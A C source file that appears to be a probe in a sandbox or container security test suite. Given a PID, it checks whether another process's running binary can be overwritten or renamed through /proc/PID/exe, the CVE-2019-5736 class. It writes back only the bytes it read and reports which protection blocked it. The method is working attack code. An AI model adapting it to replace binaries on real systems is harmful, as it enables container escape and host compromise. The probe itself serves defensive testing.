// Overwrites the binary that another process runs, through /proc/PID/exe and through its path (the
// class of CVE-2019-5736). A running binary answers ETXTBSY, which protects nothing: the payload
// keeps its descriptor and tries again for two seconds, until the process has ended. If it never
// ends, only a seal or a read-only mount counts. Writes back the bytes it has read. argv: PID
#include <sys/statvfs.h>

#include "payload.h"

static void write_back(int fd, const char* what) {
  char head[4];
  int in = -1;
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  in = open(self, O_RDONLY);
  if (in < 0 || pread(in, head, 4, 0) != 4) inconclusive("cannot read the binary back");
  if (pwrite(fd, head, 4, 0) == 4) succeeded("overwrote the binary through %s", what);
  blocked(errno);
}

static void attack(int argc, char** argv) {
  char exe[64], again[64], target[4096];
  snprintf(exe, sizeof exe, "/proc/%s/exe", need(argc, argv, 1));
  int handle = open(exe, O_PATH | O_CLOEXEC);
  if (handle < 0) blocked(errno);
  ssize_t n = readlink(exe, target, sizeof target - 1);
  if (n < 0) blocked(errno);
  target[n] = 0;

  struct stat by_handle, by_path;
  if (fstat(handle, &by_handle)) inconclusive("fstat: %s", strerror(errno));
  if (stat(target, &by_path) == 0 && by_path.st_ino == by_handle.st_ino &&
      by_path.st_dev == by_handle.st_dev) {
    char aside[4200];
    snprintf(aside, sizeof aside, "%s.moved", target);
    if (rename(target, aside) == 0) {
      rename(aside, target);
      succeeded("could replace %s", target);
    }
  }

  snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
  int error = 0;
  for (int i = 0; i < 40; ++i) {
    int fd = open(again, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) write_back(fd, exe);
    error = errno;
    if (error != ETXTBSY) blocked(error);
    usleep(50000);
  }
  int reader = open(again, O_RDONLY | O_CLOEXEC);
  if (reader < 0) blocked(errno);
  int seals = fcntl(reader, F_GET_SEALS);
  if (seals >= 0 && (seals & F_SEAL_WRITE)) blocked_because("SEALED %s cannot be written", target);
  struct statvfs fs;
  if (fstatvfs(reader, &fs) == 0 && (fs.f_flag & ST_RDONLY)) {
    blocked_because("EROFS %s is on a read-only mount", target);
  }
  succeeded("only ETXTBSY protects %s", target);
}
